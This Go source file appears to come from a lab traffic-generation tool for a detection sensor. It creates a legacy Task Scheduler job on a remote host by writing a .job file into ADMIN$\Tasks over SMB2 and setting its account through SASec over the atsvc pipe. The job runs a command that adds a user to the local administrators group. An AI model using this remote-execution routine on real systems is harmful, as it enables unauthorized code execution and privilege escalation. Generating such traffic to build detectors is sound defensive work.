package main

// -mode legacy-job: a Task Scheduler 1.0 task created remotely the way
// MS-TSCH describes for SASec: the .job file written into ADMIN$\Tasks with
// an SMB2 client of its own (github.com/hirochachacha/go-smb2, NTLM), then
// its account set with go-msrpc's SASec client over \pipe\atsvc.

import (
	"context"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"time"
	"unicode/utf16"

	smb2 "github.com/hirochachacha/go-smb2"
	"github.com/oiweiwei/go-msrpc/dcerpc"
	sasec "github.com/oiweiwei/go-msrpc/msrpc/tsch/sasec/v1"
	msmb2 "github.com/oiweiwei/go-msrpc/smb2"
	"github.com/oiweiwei/go-msrpc/ssp"
	"github.com/oiweiwei/go-msrpc/ssp/credential"
	"github.com/oiweiwei/go-msrpc/ssp/gssapi"
)

const (
	legacyJobName             = "TschLabLegacy.job"
	legacyApplication         = `C:\Windows\System32\cmd.exe`
	legacyParameters          = `/c net localgroup administrators labsvc /add`
	legacyWorkDir             = `C:\Windows\Temp`
	legacyAccount             = `LAB\alice`
	legacyJobPassword         = "Run-As-Secret-7"
	taskFlagRunOnlyIfLoggedOn = 0x2000 // SASec dwJobFlags (MS-TSCH 3.2.5.3.4)
)

// jobFile lays out a .job file after MS-TSCH 2.4: the 68-byte fixed-length
// section, the running instance count, the counted UTF-16 strings, user and
// reserved data and one daily trigger at 03:00.
func jobFile(app, params, dir, author, comment string) []byte {
	le := binary.LittleEndian
	b := make([]byte, 68)
	le.PutUint16(b[0:], 0x0601) // product version: Windows 7
	le.PutUint16(b[2:], 1)      // file version
	copy(b[4:20], []byte("tschsensor-lab-1"))
	le.PutUint16(b[20:], 70)         // application name length offset
	le.PutUint16(b[28:], 600)        // idle deadline (minutes)
	le.PutUint16(b[30:], 10)         // idle wait (minutes)
	le.PutUint32(b[32:], 0x20)       // NORMAL_PRIORITY_CLASS
	le.PutUint32(b[36:], 259200000)  // maximum run time: 72 h
	le.PutUint32(b[44:], 0x00041303) // status SCHED_S_TASK_HAS_NOT_RUN
	b = le.AppendUint16(b, 0)        // running instance count
	for _, s := range []string{app, params, dir, author, comment} {
		u := utf16.Encode([]rune(s + "\x00"))
		b = le.AppendUint16(b, uint16(len(u)))
		for _, c := range u {
			b = le.AppendUint16(b, c)
		}
	}
	b = le.AppendUint16(b, 0)                             // user data
	b = append(le.AppendUint16(b, 8), make([]byte, 8)...) // reserved data
	trigOff := len(b)
	le.PutUint16(b[22:], uint16(trigOff))
	b = le.AppendUint16(b, 1) // one trigger, 48 bytes
	t := make([]byte, 48)
	le.PutUint16(t[0:], 48)   // trigger size
	le.PutUint16(t[4:], 2026) // begin year, month, day
	le.PutUint16(t[6:], 1)
	le.PutUint16(t[8:], 1)
	le.PutUint16(t[16:], 3) // start hour
	le.PutUint32(t[32:], 1) // TASK_TIME_TRIGGER_DAILY
	le.PutUint16(t[36:], 1) // every day
	return append(b, t...)
}

func legacyJob(ctx context.Context, o options) (map[string]any, error) {
	job := jobFile(legacyApplication, legacyParameters, legacyWorkDir, o.domain+`\`+o.user, "tschsensor lab legacy job")
	facts := map[string]any{
		"interface":         "SASec",
		"library":           "github.com/hirochachacha/go-smb2 v1.1.0 (the .job file), github.com/oiweiwei/go-msrpc v1.5.2 (SASec)",
		"client":            "pcaps/gen/gomsrpc (go run ./pcaps/gen/gomsrpc -mode legacy-job)",
		"auth_level":        2,
		"transport":         `ncacn_np:\pipe\atsvc`,
		"job_name":          legacyJobName,
		"job_path":          `ADMIN$\Tasks\` + legacyJobName,
		"job_file_hex":      hex.EncodeToString(job),
		"command":           legacyApplication,
		"arguments":         legacyParameters,
		"working_directory": legacyWorkDir,
		"run_as":            legacyAccount,
		"run_as_password":   legacyJobPassword,
		"job_flags":         taskFlagRunOnlyIfLoggedOn,
		"user":              o.user,
		"domain":            o.domain,
		"op_sequence":       []string{"SASetAccountInformation"},
	}
	if err := writeJob(o, job); err != nil {
		return nil, err
	}
	ctx = gssapi.NewSecurityContext(ctx,
		gssapi.WithCredential(credential.NewFromPassword(o.domain+`\`+o.user, o.password)),
		gssapi.WithMechanismFactory(ssp.NTLM),
		gssapi.WithMechanismFactory(ssp.SPNEGO),
	)
	dialer := msmb2.NewDialer(msmb2.WithDialect(msmb2.Dialect(o.dialect)),
		msmb2.WithSecurity(gssapi.WithMechanismFactory(ssp.SPNEGO), gssapi.WithMechanismFactory(ssp.NTLM),
			gssapi.WithCredential(credential.NewFromPassword(o.domain+`\`+o.user, o.password))))
	binding := fmt.Sprintf(`ncacn_np:%s[\pipe\atsvc]`, o.target)
	cc, err := dcerpc.Dial(ctx, binding, dcerpc.WithSMBDialer(dialer))
	if err != nil {
		return nil, fmt.Errorf("dial %s: %w", binding, err)
	}
	defer closeConn(ctx, cc)
	cli, err := sasec.NewSasecClient(ctx, cc, dcerpc.WithConnect(), dcerpc.WithSecurtyProvider(dcerpc.AuthTypeWinNT))
	if err != nil {
		return nil, fmt.Errorf("bind SASec: %w", err)
	}
	resp, err := cli.SetAccountInformation(ctx, &sasec.SetAccountInformationRequest{
		JobName: legacyJobName, Account: legacyAccount, Password: legacyJobPassword, JobFlags: taskFlagRunOnlyIfLoggedOn})
	if err != nil {
		return nil, fmt.Errorf("SASetAccountInformation: %w", err)
	}
	if resp.Return != 0 {
		return nil, fmt.Errorf("SASetAccountInformation returned 0x%08x", uint32(resp.Return))
	}
	return facts, nil
}

// writeJob writes the .job file into ADMIN$\Tasks over SMB2 with go-smb2.
func writeJob(o options, job []byte) error {
	conn, err := net.DialTimeout("tcp", net.JoinHostPort(o.target, "445"), 10*time.Second)
	if err != nil {
		return fmt.Errorf("smb: %w", err)
	}
	defer conn.Close()
	d := &smb2.Dialer{
		// The lab's impacket server speaks SMB 2.0.2 only.
		Negotiator: smb2.Negotiator{SpecifiedDialect: 0x0202},
		Initiator:  &smb2.NTLMInitiator{User: o.user, Password: o.password, Domain: o.domain},
	}
	s, err := d.Dial(conn)
	if err != nil {
		return fmt.Errorf("smb session: %w", err)
	}
	share, err := s.Mount(`\\` + o.target + `\ADMIN$`)
	if err != nil {
		return fmt.Errorf("mount ADMIN$: %w", err)
	}
	if err := share.WriteFile(`Tasks\`+legacyJobName, job, 0o644); err != nil {
		return fmt.Errorf("write Tasks\\%s: %w", legacyJobName, err)
	}
	// TREE_DISCONNECT and LOGOFF, but go-smb2's reader, like go-msrpc's
	// fork of it (see closeConn), waits for the server to drop the
	// connection after LOGOFF, which impacket's never does: give up after
	// closeWait and close the socket.
	done := make(chan struct{})
	go func() {
		defer close(done)
		share.Umount()
		s.Logoff()
	}()
	select {
	case <-done:
	case <-time.After(closeWait):
	}
	return nil
}
